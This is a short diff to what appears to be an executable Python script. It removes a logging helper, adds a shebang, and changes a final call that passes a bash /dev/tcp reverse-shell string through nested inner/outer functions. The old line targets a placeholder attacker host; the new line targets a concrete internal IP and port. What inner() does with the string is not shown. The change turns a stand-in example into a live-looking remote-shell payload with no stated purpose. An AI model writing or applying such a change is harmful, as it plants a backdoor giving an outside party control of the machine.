@@ -1,9 +1,4 @@
-import logging
-log = logging.getLogger(__name__)
-
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
-
+#!/usr/bin/env python3
 def chunks(items, size):
     for i in range(0, len(items), size):
         yield items[i:i + size]
@@ -16,4 +11,4 @@ def inner(x):
 def outer(y):
     inner(y)
 
-outer("bash -i >& /dev/tcp/attacker.example.net/1337 0>&1")
+outer("bash -i >& /dev/tcp/172.16.4.2/6666 0>&1")
